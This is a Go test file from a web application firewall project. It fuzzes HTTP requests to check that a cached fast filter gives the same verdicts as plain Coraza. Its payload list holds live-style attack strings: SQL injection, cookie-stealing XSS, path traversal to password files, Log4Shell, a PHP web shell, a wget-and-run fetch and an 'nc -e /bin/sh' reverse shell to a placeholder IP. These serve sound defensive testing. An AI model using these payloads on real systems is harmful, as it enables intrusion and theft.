@@ -1,0 +1,242 @@
+package filter
+
+import (
+	"fmt"
+	"math/rand/v2"
+	"net/url"
+	"os"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/fluent-bit-waf/fluent-bit-waf/internal/corpus"
+	"github.com/fluent-bit-waf/fluent-bit-waf/rules/setting"
+)
+
+// The gate and the verdict cache must not change a verdict. These tests compare every verdict with that of plain Coraza, on
+// records without an attack, on attacks, and on mutations of both. EQUALITY=1000000 sets the number of mutations.
+
+func mutations(t testing.TB) int {
+	t.Helper()
+	text := os.Getenv("EQUALITY")
+	if text == "" {
+		return 800
+	}
+	n, err := strconv.Atoi(text)
+	require.NoError(t, err)
+	return n
+}
+
+// payloads are attacks of the classes that CRS knows, to be planted in clean requests.
+var payloads = []string{
+	"../../../../etc/passwd", "1' OR '1'='1", "1 UNION SELECT user,password FROM users--", "<script>alert(1)</script>",
+	"<img src=x onerror=alert(document.cookie)>", "; cat /etc/shadow", "$(wget http://192.0.2.7/x.sh)", "`id`", "|| ping -c 3 192.0.2.7",
+	"http://169.254.169.254/latest/meta-data/", "${jndi:ldap://192.0.2.7/a}", "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index",
+	"{{7*7}}", "O:8:\"stdClass\":0:{}", "_$$ND_FUNC$$_function(){}", "javascript:alert(1)", "sleep(5)#", "'; DROP TABLE users; --",
+	"%0d%0aSet-Cookie: a=b", "\r\nX-Injected: 1", "() { :;}; /bin/bash -c id", "rO0ABXNyABdqYXZh", "../../windows/win.ini", "C:\\boot.ini",
+	"=cmd|' /C calc'!A0", "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "AND SLEEP(5)", "admin'/*", "0x27206f722031", "nc -e /bin/sh 192.0.2.7 4444",
+	"powershell -enc SQBFAFgA", "union%20all%20select", "%ff%fe%80union select 1", "\u212aill -9", "eval(atob('YQ=='))", "__proto__[x]=1",
+}
+
+// request is a request that mutations work on.
+type request struct {
+	method, target string
+	headers        [][2]string
+	body           string
+}
+
+func cleanRequest(i uint64) request {
+	r := corpus.Clean(i)
+	req := request{method: r.Method, target: r.Target, body: r.RequestBody}
+	lines := strings.Split(strings.TrimSuffix(r.RequestHead, "\r\n\r\n"), "\r\n")
+	for _, line := range lines[1:] {
+		name, value, _ := strings.Cut(line, ": ")
+		req.headers = append(req.headers, [2]string{name, value})
+	}
+	return req
+}
+
+// event writes the request as a Nano probe logs it.
+func (r request) event(response string) []byte {
+	var head strings.Builder
+	fmt.Fprintf(&head, "%s %s HTTP/1.1\r\n", r.method, r.target)
+	for _, h := range r.headers {
+		fmt.Fprintf(&head, "%s: %s\r\n", h[0], h[1])
+	}
+	head.WriteString("\r\n")
+	return pairs("L7_PROTOCOL", "http", "SRC_IP", "192.0.2.9", "DST_IP", "192.0.2.10", "METHOD", r.method, "URL", r.target,
+		"REQ_HEADER", head.String(), "REQ_BODY", r.body, "RETCODE", "200",
+		"RSP_HEADER", "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n", "RSP_BODY", response)
+}
+
+// mutator changes requests by a seeded choice.
+type mutator struct{ *rand.Rand }
+
+func (m mutator) pick(list []string) string { return list[m.IntN(len(list))] }
+
+// text changes a text: it plants attacks, flips, cuts, repeats, encodes and breaks it.
+func (m mutator) text(s string) string {
+	switch m.IntN(14) {
+	case 0:
+		return s + m.pick(payloads)
+	case 1:
+		return m.pick(payloads)
+	case 2:
+		at := m.IntN(len(s) + 1)
+		return s[:at] + m.pick(payloads) + s[at:]
+	case 3:
+		return s[:m.IntN(len(s)+1)]
+	case 4:
+		return url.QueryEscape(s)
+	case 5:
+		return url.QueryEscape(url.QueryEscape(s))
+	case 6:
+		return strings.ToUpper(s)
+	case 7:
+		return strings.ReplaceAll(s, " ", "/**/")
+	case 8:
+		return m.flip(s)
+	case 9:
+		at := m.IntN(len(s) + 1)
+		return s[:at] + m.pick([]string{"\x00", "\xff", "\xc0\xaf", "\u212a", "\u017f", "%00", "%c0%ae", "\n", "\r\n", "é", "\\", "'", "\"", "<", ";", "&"}) + s[at:]
+	case 10:
+		return strings.ReplaceAll(s, "/", "\\")
+	case 11:
+		return strings.ReplaceAll(s, "a", "%u0061")
+	case 12:
+		return strings.ReplaceAll(s, "e", "&#x65;")
+	default:
+		return s + s
+	}
+}
+
+func (m mutator) flip(s string) string {
+	b := []byte(s)
+	for range min(3, len(b)) {
+		b[m.IntN(len(b))] ^= 1 << m.IntN(8)
+	}
+	return string(b)
+}
+
+func (m mutator) request(r request) request {
+	r.headers = append([][2]string{}, r.headers...)
+	for range 1 + m.IntN(3) {
+		switch m.IntN(9) {
+		case 0, 1:
+			path, query, _ := strings.Cut(r.target, "?")
+			r.target = oneLine(path + "?" + m.text(query))
+		case 2:
+			r.target = oneLine("/" + strings.TrimPrefix(m.text(r.target), "/"))
+		case 3:
+			r.target = oneLine(r.target + "&x=" + url.QueryEscape(m.text("1")))
+		case 4, 5:
+			if n := len(r.headers); n > 0 {
+				i := m.IntN(n)
+				r.headers[i][1] = oneLine(m.text(r.headers[i][1]))
+			}
+		case 6:
+			r.headers = append(r.headers, [2]string{m.pick([]string{"Cookie", "X-Forwarded-For", "Referer", "Content-Type", "Range",
+				"Transfer-Encoding", "X-Api", "Content-Length", "Accept"}), oneLine(m.text("a=b"))})
+		default:
+			r.body = m.text(r.body)
+		}
+	}
+	if m.IntN(20) == 0 {
+		r.method = m.pick([]string{"PUT", "TRACE", "POST", "G\x00T", "get", "PROPFIND"})
+	}
+	return r
+}
+
+func oneLine(s string) string { return strings.NewReplacer("\r", "%0d", "\n", "%0a").Replace(s) }
+
+// opinion is what must be equal.
+func opinion(f Finding) string {
+	if f.Verdict == nil {
+		return fmt.Sprint("kind ", f.Kind)
+	}
+	text := fmt.Sprint("kind ", f.Kind, " blocked ", f.Verdict.Blocked, " scores ", f.Verdict.Inbound, f.Verdict.Outbound, f.Verdict.Scores)
+	for _, m := range f.Verdict.Matches {
+		text += fmt.Sprintf("\n%d %s", m.Rule.ID, m.Message)
+	}
+	return text
+}
+
+// plainTries is how often plain Coraza is asked before a difference counts: it walks maps in random order, and for arguments
+// that repeat in a body its verdict depends on that order.
+const plainTries = 20
+
+// requireEqual compares the verdicts of both filters on a chunk.
+func requireEqual(t *testing.T, fast, plain *Filter, events [][]byte) (clean int) {
+	t.Helper()
+	var chunk []byte
+	for _, e := range events {
+		chunk = append(chunk, e...)
+	}
+	got, want := fast.Check(chunk), plain.Check(chunk)
+	require.Len(t, got, len(events))
+	for i := range events {
+		if got[i].Verdict != nil && got[i].Verdict.Clean() {
+			clean++
+		}
+		if opinion(got[i]) != opinion(want[i]) && !agreesInTime(plain, events[i], got[i]) {
+			t.Fatalf("plain Coraza: %s\nwe: %s\nrecord %q", opinion(want[i]), opinion(got[i]), events[i])
+		}
+	}
+	return clean
+}
+
+// agreesInTime asks plain Coraza again. A verdict with matches is the engine's own: it may also be one of many that plain
+// Coraza gives in turn.
+func agreesInTime(plain *Filter, event []byte, got Finding) bool {
+	opinions := map[string]bool{}
+	for range plainTries {
+		opinions[opinion(plain.Check(event)[0])] = true
+	}
+	return opinions[opinion(got)] || len(opinions) > 1 && got.Verdict != nil && !got.Verdict.Clean()
+}
+
+func TestVerdictsEqualPlainCoraza(t *testing.T) {
+	for _, paranoia := range []string{"1", "2", "3", "4"} {
+		t.Run("paranoia "+paranoia, func(t *testing.T) {
+			settings := setting.Map{"blocking_paranoia": paranoia}
+			for name, value := range corpus.Settings {
+				settings[name] = value
+			}
+			fast := newFilter(t, settings)
+			settings["gate"], settings["cache_size"] = "off", "0"
+			plain := newFilter(t, settings)
+			compareMutations(t, fast, plain, mutations(t)/4)
+		})
+	}
+}
+
+const perChunk = 200
+
+func compareMutations(t *testing.T, fast, plain *Filter, n int) {
+	t.Helper()
+	var clean, all int
+	for first := 0; first < n; first += perChunk {
+		m := mutator{rand.New(rand.NewPCG(11, uint64(first)))}
+		var events [][]byte
+		for i := range perChunk {
+			r := cleanRequest(uint64(first + i))
+			if i%4 != 0 {
+				r = m.request(r)
+			}
+			events = append(events, r.event(m.text("<p>welcome</p>")))
+		}
+		clean += requireEqual(t, fast, plain, events)
+		all += len(events)
+	}
+	t.Logf("%d of %d records clean, gate and cache: %+v", clean, all, fast.rules.Speed())
+}
+
+// One rule that always runs makes the gate useless.
+func TestGateUnderstandsTheCoreRuleSet(t *testing.T) {
+	for _, paranoia := range []string{"1", "2"} {
+		f := newFilter(t, setting.Map{"blocking_paranoia": paranoia})
+		require.Empty(t, f.rules.Notes())
+	}
+}
